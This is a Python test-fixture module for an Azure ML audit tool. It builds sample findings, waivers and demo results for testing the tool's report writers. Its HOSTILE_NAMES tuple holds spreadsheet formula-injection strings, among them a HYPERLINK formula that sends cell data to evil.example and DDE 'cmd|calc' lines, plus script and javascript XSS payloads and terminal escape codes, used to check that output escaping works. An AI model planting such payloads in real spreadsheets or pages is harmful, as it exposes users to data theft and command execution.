"""Audit results for the machine-format reporters' tests: small catalogs, hostile text, annotations.

Findings are built directly (and annotated with waivers and baselines through
dataclasses.replace, as the waiver and baseline stages do), or come from the bundled
demo estate audited by the real checks.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from functools import cache
from importlib import resources
from typing import Any

from amlaudit.auditor.check import Check, Settings, Verdict, check
from amlaudit.auditor.findings import AuditResult, Finding, fingerprint
from amlaudit.auditor.graph.estate import Estate
from amlaudit.auditor.pipeline import audit_snapshot
from amlaudit.auditor.snapshot import read_snapshot_bytes

SUB = "0b5e2d1c-1111-4a2b-9c3d-4e5f6a7b8c9d"
GENERATED_AT = "2026-01-02T03:04:05Z"

# Text an attacker who can name an Azure resource or set a tag controls.
HOSTILE_NAMES = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "a|b`c`<img src=x onerror=alert(1)>[click](javascript:alert(2))**bold**",
    "<script>alert(3)</script>",
    "@octo-org/security-team",
    "ctl\x00\x1b[31m\x07",
)
WAIVER = {"check": "rule-a", "reason": "jump host pending, CHG-1042", "owner": "netops@contoso.com",
          "expires": "2027-03-31", "selector": "resource"}


def rid(name: str, kind: str = "Microsoft.Storage/storageAccounts", rg: str = "rg-ml", sub: str = SUB) -> str:
    return f"/subscriptions/{sub}/resourceGroups/{rg}/providers/{kind}/{name}"


def rule(id: str, title: str = "A rule", severity: str = "high",  # noqa: A002 - the catalog calls it id
         reference: str = "https://learn.microsoft.com/azure/machine-learning/how-to-enable-virtual-network") -> Check:
    @check(id=id, title=title, severity=severity, subject="storage account", applies="always",  # type: ignore[arg-type]
           passes="the firewall admits the compute subnet", source="Storage account for your workspace, step 4",
           rationale="Because the document says so.", remediation="Add the subnet to the firewall <rg>.",
           reference=reference)
    def function(estate: Estate, settings: Settings) -> Iterator[Verdict]:
        yield from ()

    return function


def finding(c: Check, status: str, resource_id: str, message: str = "the message", evidence: dict[str, Any] | None = None,
            **annotations: Any) -> Finding:
    made = Finding(check_id=c.id, status=status, severity=c.severity, resource_id=resource_id,  # type: ignore[arg-type]
                   title=c.title, message=message, evidence={} if evidence is None else evidence,
                   remediation=c.remediation, reference=c.reference_text, fingerprint=fingerprint(c.id, resource_id))
    return dataclasses.replace(made, **annotations) if annotations else made


def result(findings: list[Finding], checks: list[Check], errors: list[dict[str, Any]] | None = None) -> AuditResult:
    return AuditResult(findings=findings, checks=checks, errors=errors or [], gaps=[], generated_at=GENERATED_AT,
                       snapshot_collected_at="2026-01-01T00:00:00Z", snapshot_source="unit")


@cache
def _demo() -> AuditResult:
    data = resources.files("amlaudit.fixtures").joinpath("demo.json.gz").read_bytes()
    return audit_snapshot(read_snapshot_bytes(data, "demo estate"))


def demo_result() -> AuditResult:
    """The bundled demo estate audited by every registered check (26 failures, 3 errors, 1 collection error)."""
    cached = _demo()
    return dataclasses.replace(cached, findings=list(cached.findings), errors=list(cached.errors))


def annotated_demo() -> AuditResult:
    """The demo with its first failure waived and the baseline stage's marks: the first two
    failures persisting, everything else new."""
    demo = demo_result()
    failures = [i for i, f in enumerate(demo.findings) if f.status == "fail"]
    findings = []
    for i, f in enumerate(demo.findings):
        waiver = dict(WAIVER, check=f.check_id) if i == failures[0] else None
        findings.append(dataclasses.replace(f, waiver=waiver, baseline="persisting" if i in failures[:2] else "new"))
    return dataclasses.replace(demo, findings=findings)


def bulk_result(n: int, statuses: tuple[str, ...] = ("pass",) * 7 + ("fail", "error", "not_applicable")) -> AuditResult:
    """`n` findings over three checks, with realistic evidence, in a generated estate."""
    checks = [rule("bulk-critical", "Critical rule", "critical"), rule("bulk-high", "High rule"),
              rule("bulk-medium", "Medium rule", "medium")]
    findings = [
        finding(checks[i % 3], statuses[i % len(statuses)], rid(f"st{i:06d}", rg=f"rg-{i % 97:03d}"),
                message=f"subnet snet-{i} of vnet-{i % 50} is not in networkAcls.virtualNetworkRules (defaultAction Deny)",
                evidence={"default_action": "Deny", "bypass": "AzureServices", "region": "westeurope",
                          "subnets": [{"subnet_id": rid(f"vnet-{i % 50}/subnets/snet-{i}", "Microsoft.Network/virtualNetworks"),
                                       "outcome": "refused", "service_endpoint": False}],
                          "compute_subnet_count": 3, "refused_subnet_count": 1})
        for i in range(n)
    ]
    return result(findings, checks)
